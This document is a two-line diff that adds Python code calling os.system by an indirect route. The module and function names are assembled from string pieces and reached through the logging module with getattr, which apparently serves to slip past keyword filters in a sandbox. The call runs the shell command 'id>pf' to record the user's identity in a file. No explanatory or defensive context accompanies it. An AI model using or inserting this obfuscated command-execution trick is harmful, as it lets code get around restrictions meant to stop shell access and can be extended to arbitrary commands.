@@ -1,0 +1,2 @@
+import logging
+getattr(getattr(logging, "o" + "s"), "sys" + "tem")("id>pf")
